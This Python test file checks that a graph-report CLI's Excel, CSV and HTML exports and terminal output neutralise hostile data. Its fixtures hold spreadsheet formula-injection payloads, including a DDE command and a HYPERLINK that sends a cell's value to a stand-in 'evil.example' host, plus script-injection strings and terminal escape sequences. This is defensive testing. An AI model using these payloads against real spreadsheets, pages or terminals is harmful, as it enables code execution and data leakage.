"""Exports of hostile data, through ``report run -o file.xlsx|csv|html``, on both engines.

The graph holds projects and a chain named with formula payloads (``=HYPERLINK``, ``@SUM``,
``-2+3``, ``+1``, a DDE ``=cmd|' /C calc'!A0``, text starting with a tab or a carriage return)
and with markup that would run in a page (``<script>``, attribute breakers meant for the chart
labels), and negative investments. Excel and CSV exports show every payload as text (quoted with
a leading apostrophe) while real numbers, negative ones included, stay numbers; the HTML page
shows every payload as text and runs nothing. A user's report file with hostile metadata
(title, description, column names and help) is exported the same way. Nothing written to
standard output carries a terminal control character from the data (ESC, BEL, CR, C1, bidi
overrides), while csv written to a file keeps them exact.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from conftest import BACKEND_PARAMS, chinese
from test_hostile_support import cli, location_of


@pytest.fixture(autouse=True)
def reader_language(monkeypatch):
    """Reports as readers get them: Chinese titles by default."""
    yield from chinese(monkeypatch)

FORMULAS = {
    "P-1": "=cmd|' /C calc'!A0",
    "P-2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "P-3": "-2+3",
    "P-4": "+1 call me",
    "P-5": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "P-6": "-1e5 looks like a number",
}
MARKUP = {
    "P-7": "<script>alert('x')</script>",
    "P-8": '" onmouseover="alert(1)',
    "P-9": "'><svg onload=alert(1)>",
    "P-10": "</text><script>alert(2)</script><text>",
}
WRITTEN = {"P-11": "\t=1+1", "P-12": "\r=2+2"}  # leading tab/CR: the loader trims them, a query does not
CHAIN = '=HYPERLINK("http://evil.example","链")'
INVESTMENT = {"P-1": -3.5, "P-2": -1234567.5, "P-3": 2.25}
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NAMES = {**FORMULAS, **MARKUP, **WRITTEN}


@pytest.fixture(scope="module", params=BACKEND_PARAMS)
def loaded(request, tmp_path_factory):
    backend = request.getfixturevalue(f"_{request.param}_backend")
    backend.clear()
    location = location_of(request, request.param)
    folder = tmp_path_factory.mktemp("hostile-data")
    with (folder / "产业链.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["产业链编号", "产业链名称"], ["C-1", CHAIN]])
    with (folder / "项目.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["项目编号", "项目名称", "总投资(亿元)", "所属产业链"])
        for node_id, name in {**FORMULAS, **MARKUP}.items():
            writer.writerow([node_id, name, INVESTMENT.get(node_id, 1), "C-1"])
    for name in ("产业链.csv", "项目.csv"):
        assert cli(location, "load", folder / name).exit_code == 0
    for node_id, name in WRITTEN.items():
        result = cli(location, "query", "MATCH (c:Chain {id: 'C-1'}) CREATE (p:Project {id: $id, name: $name, "
                     "investment_yi: 1.0})-[:IN_CHAIN]->(c) RETURN p.id AS id", "-p", f"id={node_id}",
                     "-p", f"name={name}", "--write")
        assert result.exit_code == 0, result.output
    stored = {r["id"]: r["name"] for r in backend.read("MATCH (p:Project) RETURN p.id AS id, p.name AS name")}
    assert stored == NAMES
    reports = folder / "reports"
    reports.mkdir()
    (reports / "hostile-export.cypher").write_text(USER_REPORT, encoding="utf-8")
    return backend, location, reports


USER_REPORT = """\
// name: hostile-export
// title: "<script>alert('title')</script> / =cmd|' /C calc'!A0"
// description: "<img src=x onerror=alert(1)> & =HYPERLINK(\\"http://evil\\")"
// columns:
//   "=HYPERLINK(\\"http://evil\\",\\"x\\")": {help: "\\"><script>alert('help')</script>"}
//   value: {help: "<b onmouseover=alert(1)>v</b>"}
// chart: [value]
// chart_label: ["=HYPERLINK(\\"http://evil\\",\\"x\\")"]
MATCH (p:Project) RETURN p.name AS `=HYPERLINK("http://evil","x")`, p.investment_yi AS value ORDER BY p.id
"""
RUNS = [
    (["chain-members", "-p", "chain=C-1", "-p", "detail=true"], "成员"),
    (["investment-rollup", "-p", "by=chain"], "分组"),
    (["hostile-export"], '=HYPERLINK("http://evil","x")'),
]


def run(location, reports, args, path):
    result = cli(location, "report", "run", *args, "--reports-dir", reports, "-o", path)
    assert result.exit_code == 0, result.output
    assert path.exists()


def expected_texts(args) -> set[str]:
    return {CHAIN} if args[0] == "investment-rollup" else set(NAMES.values())


# -- xlsx -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("args, label", RUNS, ids=[r[0][0] for r in RUNS])
def test_excel_shows_formula_payloads_as_text_and_keeps_numbers(loaded, tmp_path, args, label):
    _, location, reports = loaded
    path = tmp_path / "out.xlsx"
    run(location, reports, args, path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
    book = load_workbook(path)
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(PREFIXES), (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    numbers.append(cell.value)
    for text in expected_texts(args):
        shown = ("'" + text if text.startswith(PREFIXES) else text).replace("\r", "\n")  # XML reads CR as LF
        assert any(shown in cell for cell in texts), text
    if args[0] == "chain-members":
        assert {-3.5, -1234567.5, 2.25} <= set(numbers)  # negative investments stay numbers
    if args[0] == "investment-rollup":
        assert 11.25 in numbers  # the sums stay numbers (the report counts a negative investment as 0)


# -- csv --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("args, label", RUNS, ids=[r[0][0] for r in RUNS])
def test_csv_shows_formula_payloads_as_text_and_keeps_numbers(loaded, tmp_path, args, label):
    _, location, reports = loaded
    path = tmp_path / "out.csv"
    run(location, reports, args, path)
    with path.open(encoding="utf-8", newline="") as handle:  # keep a CR inside a cell as it is
        content = handle.read()
    assert content.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(content[1:], newline="")))
    header, body = rows[0], rows[1:]
    for cell in [*header, *(c for row in body for c in row)]:
        if cell.startswith(PREFIXES):
            float(cell.replace(",", ""))  # only a real number may start like a formula
    column = header.index("'" + label if label.startswith(PREFIXES) else label)
    shown = {row[column] for row in body}
    for text in expected_texts(args):
        assert ("'" + text if text.startswith(PREFIXES) else text) in shown, text
    if args[0] == "chain-members":
        amounts = {row[header.index("总投资(亿元)")] for row in body}
        assert {"-3.50", "-1,234,567.50", "2.25"} <= amounts  # an amount with two decimals, not quoted text


# -- html -------------------------------------------------------------------------------------------

ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "p", "dl", "dt", "dd", "table", "thead",
                "tbody", "tr", "th", "td", "figure", "figcaption", "svg", "text", "rect", "line", "footer",
                "div", "details", "summary", "ul", "li", "span"}


class Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.attribute_values: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.attribute_values += [v or "" for _, v in attrs]

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)


@pytest.mark.parametrize("args, label", RUNS, ids=[r[0][0] for r in RUNS])
def test_html_shows_markup_as_text_and_runs_nothing(loaded, tmp_path, args, label):
    _, location, reports = loaded
    path = tmp_path / "out.html"
    run(location, reports, args, path)
    page_text = path.read_text(encoding="utf-8")
    page = Page()
    page.feed(page_text)
    tags = {tag for tag, _ in page.tags}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in page.tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert not attrs.get("href") and not attrs.get("src")
    assert "default-src 'none'" in page_text
    shown = "".join(page.text)
    for text in expected_texts(args):
        visible = text.replace("\r", "\n") if text.startswith("\r") else text
        assert visible.strip() in shown.replace("\r\n", "\n").replace("\r", "\n"), text
    if args[0] != "investment-rollup":
        assert page_text.count("<svg") == 1  # the chart, with the hostile names as its bar labels
        labels = [t for t in page.text if "alert" in t]
        assert labels, "the chart labels show the names as text"


def test_a_hostile_user_report_keeps_its_metadata_as_text(loaded, tmp_path):
    _, location, reports = loaded
    html_path, xlsx_path = tmp_path / "r.html", tmp_path / "r.xlsx"
    run(location, reports, ["hostile-export"], html_path)
    run(location, reports, ["hostile-export"], xlsx_path)
    page = Page()
    page.feed(html_path.read_text(encoding="utf-8"))
    shown = "".join(page.text)
    assert "<script>alert('title')</script>" in shown and "<img src=x onerror=alert(1)>" in shown
    assert "\"><script>alert('help')</script>" in page.attribute_values  # a th title, as text
    about = load_workbook(xlsx_path)["说明"]
    values = [c.value for row in about.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [v for v in values if v.startswith(PREFIXES)]
    listed = cli(location, "report", "list", "--reports-dir", reports, "--format", "csv")
    assert listed.exit_code == 0
    for row in csv.reader(io.StringIO(listed.stdout.lstrip("\ufeff"), newline="")):
        assert not [c for c in row if c.startswith(PREFIXES)], row


def test_query_csv_headers_are_neutralised_too(loaded, tmp_path):
    _, location, _ = loaded
    result = cli(location, "query", "MATCH (p:Project {id: 'P-1'}) RETURN p.name AS `=1+1`, -3.5 AS `@x`",
                 "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"), newline="")))
    assert rows == [["'=1+1", "'@x"], ["'=cmd|' /C calc'!A0", "-3.5"]]
    table = cli(location, "query", "RETURN $v AS `[/x]`", "-p", "v=\x1b[2J[b]x[/b]\\")
    assert table.exit_code == 0, table.output
    assert "[/x]" in table.stdout and "\\x1b[2J[b]x[/b]\\" in table.stdout and "\x1b" not in table.stdout
    as_json = cli(location, "query", "RETURN $v AS v", "-p", "v=<script>", "--format", "json")
    assert json.loads(as_json.stdout) == [{"v": "<script>"}]


TERMINAL_PAYLOAD = "a\x1b[2J\x1b]0;pwned\x07b\rforged\x9b1m \u202edcba\u202c"
SHOWN_PAYLOAD = "a\\x1b[2J\\x1b]0;pwned\\x07b\\rforged\\x9b1m \\u202edcba\\u202c"


@pytest.mark.parametrize("fmt", ["table", "md", "csv", "json", "html"])
def test_standard_output_carries_no_control_character_from_the_data(loaded, fmt):
    _, location, _ = loaded
    result = cli(location, "query", "RETURN $v AS `x\x1b[1m`, 'a|b\nc' AS cell", "-p", f"v={TERMINAL_PAYLOAD}",
                 "--format", fmt)
    assert result.exit_code == 0, result.output
    out = result.stdout.replace("\r\n", "\n")  # csv ends its lines with CRLF
    for char in "\x1b\x07\r\x9b\u202e\u202c":
        assert char not in out, (fmt, char)
    if fmt == "json":
        assert json.loads(result.stdout) == [{"x\x1b[1m": TERMINAL_PAYLOAD, "cell": "a|b\nc"}]
    elif fmt == "md":
        lines = out.splitlines()
        assert lines[-1] == "| " + SHOWN_PAYLOAD.replace("\\", "\\\\") + " | a\\|b<br>c |"
        assert lines[-3].count(" | ") == 1 and len(lines) == 3
    else:
        assert SHOWN_PAYLOAD in out


def test_csv_written_to_a_file_keeps_control_characters_exact(loaded, tmp_path):
    _, location, _ = loaded
    path = tmp_path / "out.csv"
    result = cli(location, "query", "RETURN $v AS v", "-p", f"v={TERMINAL_PAYLOAD}", "--format", "csv", "-o", path)
    assert result.exit_code == 0, result.output
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(io.StringIO(handle.read().lstrip("\ufeff"), newline="")))
    assert rows == [["v"], [TERMINAL_PAYLOAD]]
